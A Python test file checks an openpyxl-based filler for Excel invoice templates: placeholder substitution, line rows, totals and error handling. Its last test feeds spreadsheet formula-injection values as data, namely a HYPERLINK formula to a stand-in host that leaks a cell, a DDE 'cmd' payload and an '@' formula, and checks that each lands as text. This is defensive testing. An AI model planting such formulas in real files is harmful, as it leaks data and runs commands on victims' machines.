"""Excel invoice templates filled with openpyxl, then opened again and read cell by cell."""

import io
from datetime import date

import pytest
from _loader import load_service
from openpyxl import Workbook, load_workbook

xlsx = load_service("xlsx_invoice")

HEADER = {
    "number": "INV/2026/0007",
    "date": date(2026, 7, 31),
    "customer": "Acme Widgets Ltd",
    "total": 403.32,
    "untaxed": 360.57,
    "tax": 42.75,
    "due_date": date(2026, 8, 30),
    "reference": "BR/2026/0001",
    "company": "Halo IT",
    "currency": "GBP",
}
LINES = [
    {
        "ticket": "HT001",
        "date": date(2026, 7, 7),
        "technician": "Terry",
        "description": "Fixed printer",
        "quantity": 1.5,
        "unit": "h",
        "unit_price": 95.0,
        "amount": 142.5,
    },
    {
        "ticket": "HT001",
        "date": date(2026, 7, 7),
        "technician": "Terry",
        "description": "Late call",
        "quantity": 1.0,
        "unit": "h",
        "unit_price": 142.5,
        "amount": 142.5,
    },
    {
        "ticket": "HT002",
        "date": date(2026, 7, 8),
        "technician": "Sam",
        "description": "Cable",
        "quantity": 2.0,
        "unit": "unit",
        "unit_price": 25.0,
        "amount": 50.0,
    },
]


def read(data):
    return load_workbook(io.BytesIO(data)).worksheets[0]


def test_default_template_repeats_the_line_row_and_moves_totals_down():
    data, missing = xlsx.fill_template(xlsx.default_template(), HEADER, LINES)
    assert missing == []
    sheet = read(data)
    assert sheet["B3"].value == "INV/2026/0007"
    assert sheet["B4"].value.date() == date(2026, 7, 31)  # a real date, not text
    rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=10, max_row=12)]
    assert [r[0] for r in rows] == ["HT001", "HT001", "HT002"]
    assert [r[7] for r in rows] == [142.5, 142.5, 50.0]
    assert sheet["H10"].number_format == sheet["H12"].number_format == "#,##0.00"  # style copied
    # the totals block was at rows 12-14 and moved down by two rows
    assert (sheet["G14"].value, sheet["H14"].value) == ("Untaxed", 360.57)
    assert sheet["H16"].value == 403.32


def test_placeholders_inside_text_and_unknown_ones_reported():
    wb = Workbook()
    ws = wb.active
    ws["A1"] = "Invoice {{ invoice.number }} for {{invoice.customer}}"
    ws["A2"] = "{{ invoice.colour }}"
    ws["A4"] = "{{ line.description }} ({{ line.quantity }} {{ line.unit }})"
    ws["B4"] = "{{ line.amount }}"
    ws["A6"] = "=SUM(B4:B4)"
    buf = io.BytesIO()
    wb.save(buf)
    data, missing = xlsx.fill_template(buf.getvalue(), HEADER, LINES[:2])
    sheet = read(data)
    assert sheet["A1"].value == "Invoice INV/2026/0007 for Acme Widgets Ltd"
    assert sheet["A2"].value is None
    assert missing == ["invoice.colour"]
    assert sheet["A4"].value == "Fixed printer (1.5 h)"
    assert sheet["A5"].value == "Late call (1.0 h)"
    assert (sheet["B4"].value, sheet["B5"].value) == (142.5, 142.5)
    assert sheet["A7"].value == "=SUM(B4:B4)"  # rows below moved; formulas are the user's


def test_no_lines_leaves_an_empty_line_row():
    data, _missing = xlsx.fill_template(xlsx.default_template(), HEADER, [])
    sheet = read(data)
    assert all(cell.value is None for cell in sheet[10])
    assert sheet["H12"].value == 360.57


def test_not_a_workbook_is_refused_clearly():
    with pytest.raises(xlsx.TemplateError, match="cannot be read"):
        xlsx.fill_template(b"not a zip", HEADER, LINES)


def test_placeholder_values_are_data_never_formulas():
    """A customer, technician or description starting with "=" lands as text; the template's own
    formulas stay formulas; characters an .xlsx cannot hold are dropped instead of failing."""
    wb = Workbook()
    ws = wb.active
    ws["A1"] = "{{ invoice.customer }}"
    ws["A2"] = "Ref {{ invoice.reference }}"
    ws["A4"] = "{{ line.technician }}"
    ws["B4"] = "{{ line.description }}"
    ws["C4"] = "{{ line.amount }}"
    ws["A6"] = "=SUM(C4:C4)"
    buf = io.BytesIO()
    wb.save(buf)
    hyperlink = '=HYPERLINK("http://attacker.test/?"&A1,"Pay here")'
    header = dict(HEADER, customer=hyperlink, reference="=1+1")
    lines = [
        dict(LINES[0], technician="=cmd|' /C calc'!A0", description="Bell\x07 =2*3"),
        dict(LINES[1], technician="@SUM(1)"),
    ]
    data, _missing = xlsx.fill_template(buf.getvalue(), header, lines)
    sheet = read(data)
    assert (sheet["A1"].data_type, sheet["A1"].value) == ("s", hyperlink)
    assert (sheet["A2"].data_type, sheet["A2"].value) == ("s", "Ref =1+1")
    assert (sheet["A4"].data_type, sheet["A4"].value) == ("s", "=cmd|' /C calc'!A0")
    assert (sheet["B4"].data_type, sheet["B4"].value) == ("s", "Bell =2*3")
    assert (sheet["A5"].data_type, sheet["A5"].value) == ("s", "@SUM(1)")
    assert (sheet["C4"].data_type, sheet["C4"].value) == ("n", 142.5)
    assert (sheet["A7"].data_type, sheet["A7"].value) == ("f", "=SUM(C4:C4)")
